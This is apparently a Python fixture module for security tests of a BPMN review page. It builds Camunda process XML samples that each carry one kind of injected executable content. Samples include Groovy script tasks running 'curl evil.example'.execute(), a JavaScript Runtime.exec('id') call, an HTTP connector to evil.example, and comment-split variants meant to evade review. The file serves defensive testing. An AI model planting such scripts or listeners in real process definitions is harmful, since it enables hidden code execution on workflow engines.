"""Processes that carry each kind of executable content, for the attacks on the review page
(tests/security/test_review_attacks.py): the same one-step process with one construct added."""

from __future__ import annotations

from das.bpmn.compile import compile_to_xml

_TASK = '<bpmn:userTask id="s1" name="Review">'
_EXT = "<bpmn:extensionElements>{}</bpmn:extensionElements>"

# kind -> (what is injected, the text the page and the diff must show, ExecutableItem.kind)
SAMPLES: dict[str, tuple[str, str, str]] = {
    "execution_listener_class": (
        _TASK + _EXT.format('<camunda:executionListener class="com.evil.Backdoor" event="start"/>'),
        "com.evil.Backdoor",
        "class",
    ),
    "task_listener_delegate": (
        _TASK + _EXT.format('<camunda:taskListener delegateExpression="${auditBean}" event="create"/>'),
        "${auditBean}",
        "delegate_expression",
    ),
    "groovy_script_task": (
        '<bpmn:scriptTask id="s1" name="Review" scriptFormat="groovy">',
        "'curl evil.example'.execute()",
        "script",
    ),
    "camunda_expression": (
        '<bpmn:serviceTask id="s1" name="Review" camunda:expression="${mailer.sendAll(execution)}">',
        "${mailer.sendAll(execution)}",
        "expression",
    ),
    "delegate_expression": (
        '<bpmn:serviceTask id="s1" name="Review" camunda:delegateExpression="${paymentDelegate}">',
        "${paymentDelegate}",
        "delegate_expression",
    ),
    "service_task_class": (
        '<bpmn:serviceTask id="s1" name="Review" camunda:class="com.evil.Pay">',
        "com.evil.Pay",
        "class",
    ),
    "input_output_script": (
        _TASK
        + _EXT.format(
            '<camunda:inputOutput><camunda:inputParameter name="x"><camunda:script scriptFormat='
            '"javascript">java.lang.Runtime.getRuntime().exec("id")</camunda:script>'
            "</camunda:inputParameter></camunda:inputOutput>"
        ),
        'java.lang.Runtime.getRuntime().exec("id")',
        "script",
    ),
    "listener_script": (
        _TASK
        + _EXT.format(
            '<camunda:executionListener event="end"><camunda:script scriptFormat="groovy">'
            "System.exit(1)</camunda:script></camunda:executionListener>"
        ),
        "System.exit(1)",
        "script",
    ),
    "connector": (
        '<bpmn:serviceTask id="s1" name="Review">'
        + _EXT.format(
            "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId><camunda:inputOutput>"
            '<camunda:inputParameter name="url">http://evil.example/</camunda:inputParameter></camunda:inputOutput>'
            "</camunda:connector>"
        ),
        "http-connector",
        "connector",
    ),
    "condition_calling_a_bean": ("condition", "${approvals.grantAll(execution)}", "condition"),
    # red-team review of issue 23: content the extractor once missed or showed as plain
    "condition_after_a_leading_comment": ("condition", "${approvals.grantAll(execution)}", "condition"),
    "condition_split_by_a_comment": ("condition", "${ok and approvals.grantAll(execution)}", "condition"),
    "input_parameter_before_a_comment": (
        _TASK
        + _EXT.format(
            '<camunda:inputOutput><camunda:inputParameter name="x">${bean.run(execution)}<!-- -->'
            "</camunda:inputParameter></camunda:inputOutput>"
        ),
        "${bean.run(execution)}",
        "expression",
    ),
    "script_task_body_after_a_comment": (
        '<bpmn:scriptTask id="s1" name="Review" scriptFormat="groovy">',
        "'curl evil.example'.execute()",
        "script",
    ),
    "script_task_body_split_by_a_pi": (
        '<bpmn:scriptTask id="s1" name="Review" scriptFormat="groovy">',
        "1;'curl evil.example'.execute()",
        "script",
    ),
    "variable_mapping_class": (
        '<bpmn:callActivity id="s1" name="Review" calledElement="demo" camunda:variableMappingClass="com.evil.Mapping">',
        "com.evil.Mapping",
        "class",
    ),
    "variable_mapping_delegate": (
        '<bpmn:callActivity id="s1" name="Review" calledElement="demo" '
        'camunda:variableMappingDelegateExpression="${evilMapping}">',
        "${evilMapping}",
        "delegate_expression",
    ),
    "form_handler_class": (
        '<bpmn:userTask id="s1" name="Review" camunda:formHandlerClass="com.evil.FormHandler">',
        "com.evil.FormHandler",
        "class",
    ),
    "form_field_validator_class": (
        _TASK
        + _EXT.format(
            '<camunda:formData><camunda:formField id="f" type="string"><camunda:validation>'
            '<camunda:constraint name="validator" config="com.evil.Validator"/></camunda:validation>'
            "</camunda:formField></camunda:formData>"
        ),
        "com.evil.Validator",
        "class",
    ),
    "form_field_validator_bean": (
        _TASK
        + _EXT.format(
            '<camunda:formData><camunda:formField id="f" type="string"><camunda:validation>'
            '<camunda:constraint name="validator" config="${evilValidator}"/></camunda:validation>'
            "</camunda:formField></camunda:formData>"
        ),
        "${evilValidator}",
        "delegate_expression",
    ),
    "potential_owner_expression": (_TASK, "${users.grant(execution)}", "expression"),
    "message_name_expression": ("definitions", "${mailer.evil(execution)}", "expression"),
    "signal_name_expression": ("definitions", "${signals.evil(execution)}", "expression"),
    "unknown_camunda_attribute_with_a_bean": (
        '<bpmn:userTask id="s1" name="Review" camunda:customDelegate="${evilBean}">',
        "${evilBean}",
        "expression",
    ),
}
# the sequence flow's condition body (the page shows the text the engine reads, comments dropped)
_CONDITIONS = {
    "condition_calling_a_bean": "${approvals.grantAll(execution)}",
    "condition_after_a_leading_comment": "<!-- reviewed -->${approvals.grantAll(execution)}",
    "condition_split_by_a_comment": "${ok and<!-- --> approvals.grantAll(execution)}",
}
_SCRIPTS = {
    "script_task_body_after_a_comment": "<!-- reviewed -->'curl evil.example'.execute()",
    "script_task_body_split_by_a_pi": "1<?x y?>;'curl evil.example'.execute()",
}
_BEFORE_CLOSE = {
    "potential_owner_expression": "<bpmn:potentialOwner><bpmn:resourceAssignmentExpression>"
    "<bpmn:formalExpression>${users.grant(execution)}</bpmn:formalExpression>"
    "</bpmn:resourceAssignmentExpression></bpmn:potentialOwner>"
}
_DEFINITIONS = {
    "message_name_expression": '<bpmn:message id="M1" name="${mailer.evil(execution)}"/>',
    "signal_name_expression": '<bpmn:signal id="S1" name="${signals.evil(execution)}"/>',
}


def sample_xml(kind: str, key: str = "demo") -> str:
    """The demo process of ``key`` with the ``kind`` construct added."""
    xml = compile_to_xml({"key": key, "name": key, "steps": [{"type": "user", "name": "Review"}]})
    inject, _, _ = SAMPLES[kind]
    if inject == "condition":
        flow = '<bpmn:sequenceFlow id="f_s1_end" sourceRef="s1" targetRef="end"/>'
        assert flow in xml
        return xml.replace(
            flow,
            '<bpmn:sequenceFlow id="f_s1_end" sourceRef="s1" targetRef="end">'
            '<bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">'
            f"{_CONDITIONS[kind]}</bpmn:conditionExpression></bpmn:sequenceFlow>",
        )
    if inject == "definitions":
        at = xml.index("<bpmn:process")
        return xml[:at] + _DEFINITIONS[kind] + "\n  " + xml[at:]
    assert _TASK in xml
    xml = xml.replace(_TASK, inject)
    if inject.startswith("<bpmn:scriptTask"):
        body = _SCRIPTS.get(kind, "'curl evil.example'.execute()")
        xml = xml.replace(
            "<bpmn:outgoing>f_s1_end</bpmn:outgoing>\n    </bpmn:userTask>",
            f"<bpmn:outgoing>f_s1_end</bpmn:outgoing>\n      <bpmn:script>{body}"
            "</bpmn:script>\n    </bpmn:scriptTask>",
        )
    elif inject.startswith("<bpmn:serviceTask"):
        xml = xml.replace("</bpmn:userTask>", "</bpmn:serviceTask>")
    elif kind in _BEFORE_CLOSE:
        xml = xml.replace("</bpmn:userTask>", _BEFORE_CLOSE[kind] + "</bpmn:userTask>")
    elif inject.startswith("<bpmn:callActivity"):
        xml = xml.replace("</bpmn:userTask>", "</bpmn:callActivity>")
    return xml
